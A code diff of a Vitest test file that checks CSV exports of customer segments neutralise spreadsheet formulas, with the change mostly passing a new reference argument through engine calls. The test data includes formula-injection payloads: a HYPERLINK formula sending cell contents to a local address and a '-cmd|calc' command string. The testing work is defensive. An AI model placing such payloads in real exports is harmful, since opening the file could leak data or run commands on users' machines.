@@ -5,7 +5,7 @@
  */
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { createEngine, textFile } from '../helpers/engine';
+import { createEngine, refsFor, textFile } from '../helpers/engine';
 
 const LINK = '=HYPERLINK("http://127.0.0.1:8001/?"&A2,"Open")';
 const starts = /^[=+\-@\t\r]/;
@@ -32,14 +32,15 @@ describe('CSV exports neutralise formulas', () => {
 		const engine = await createEngine();
 		await engine.loadSource(textFile('formulas.csv', customers()));
 		const { recipe } = await engine.suggestRecipe('formulas');
-		await engine.buildFeatures(recipe);
-		await engine.segment({ k: 3, seed: 1 });
+		const ref = refsFor(recipe);
+		await engine.buildFeatures(recipe, ref);
+		await engine.segment(ref, { k: 3, seed: 1 });
 		const personas = new Map([
 			[1, '=HYPERLINK("http://127.0.0.1:8001/?"&A2,"Click")'],
 			[2, '-cmd|calc'],
 			[3, 'Loyal']
 		]);
-		const file = await engine.exportSegments('csv', personas, open);
+		const file = await engine.exportSegments(ref, 'csv', personas, open);
 		const rows = rowsOf(file.bytes);
 		expect(rows[0]).toEqual(['customer_id', 'segment', 'persona']);
 		expect(rows).toHaveLength(61);
